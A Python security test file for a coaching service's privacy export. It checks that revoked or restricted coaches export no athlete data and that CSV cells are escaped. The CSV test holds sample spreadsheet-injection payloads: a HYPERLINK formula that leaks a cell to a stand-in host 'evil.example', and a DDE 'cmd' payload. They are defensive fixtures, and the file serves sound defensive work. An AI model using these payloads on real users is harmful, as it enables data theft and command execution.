"""The data-protection export holds only what its person may see now (OWASP API3, excessive
data exposure), and its spreadsheets cannot run formulas.

Item 7 of the hardening round: a coach whose link the athlete revoked downloaded their export and
found the athlete's finding texts, policy thresholds and the access log of their own views in it:
the export took every row that named the coach. Also: a cell starting with ``=``, ``+``, ``-`` or
``@`` opened as a formula in a spreadsheet (CSV injection).
"""

from __future__ import annotations

import csv
import io
import json
import zipfile
from typing import Any

from fastapi.testclient import TestClient
from sqlalchemy.orm import Session

from service.models import Finding
from tests.security.people import Person
from tests.security.world import VICTIM_FINDING_TEXT, World


def _export(client: TestClient, person: Person) -> dict[str, Any]:
    answer = client.get("/privacy/export.json", headers=person.headers)
    assert answer.status_code == 200, answer.text
    return dict(answer.json())


def _rows_about(export: dict[str, Any], athlete_id: int, finding_ids: set[int]) -> list[Any]:
    found = []
    for table, rows in export.items():
        if table in ("format", "account", "coach_links") or not isinstance(rows, list):
            continue
        for row in rows:
            if row.get("athlete_id") == athlete_id or row.get("finding_id") in finding_ids:
                found.append((table, row))
    return found


def _coach_worked_with_victim(db_session: Session, world: World, coach: Person) -> set[int]:
    """The coach acknowledged the victim's findings while linked (the world already holds their
    alert, policy change and access-log rows)."""
    findings = {world.ids["finding"], world.ids["symptom_finding"]}
    for finding_id in findings:
        finding = db_session.get(Finding, finding_id)
        assert finding is not None
        finding.acknowledged_by_id = coach.id
    db_session.commit()
    return findings


def test_a_revoked_coach_exports_nothing_of_that_athlete(
    client: TestClient, db_session: Session, world: World
) -> None:
    findings = _coach_worked_with_victim(db_session, world, world.coach)
    linked = _export(client, world.coach)
    assert _rows_about(linked, world.victim.id, findings), "while linked, the rows are theirs"

    revoked = client.post(f"/api/v1/links/{world.ids['link']}/revoke", headers=world.victim.headers)
    assert revoked.status_code == 204

    after = _export(client, world.coach)
    assert _rows_about(after, world.victim.id, findings) == []
    assert VICTIM_FINDING_TEXT not in json.dumps(after)


def test_a_coach_not_shown_symptoms_exports_no_symptom_finding(
    client: TestClient, db_session: Session, world: World
) -> None:
    _coach_worked_with_victim(db_session, world, world.blind_coach)
    export = _export(client, world.blind_coach)
    acknowledged = {row["id"] for row in export["findings"]}
    assert world.ids["finding"] in acknowledged
    assert world.ids["symptom_finding"] not in acknowledged


def test_csv_cells_that_a_spreadsheet_would_run_are_escaped(
    client: TestClient, world: World
) -> None:
    formula = '=HYPERLINK("https://evil.example/?"&A1,"click")'
    for name in (formula, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"):
        renamed = client.patch(
            "/api/v1/me", json={"display_name": name}, headers=world.victim.headers
        )
        assert renamed.status_code == 200, renamed.text
        archive = client.get("/privacy/export.zip", headers=world.victim.headers)
        with zipfile.ZipFile(io.BytesIO(archive.content)) as files:
            account = next(csv.DictReader(io.StringIO(files.read("account.csv").decode())))
        assert account["display_name"] == "'" + name
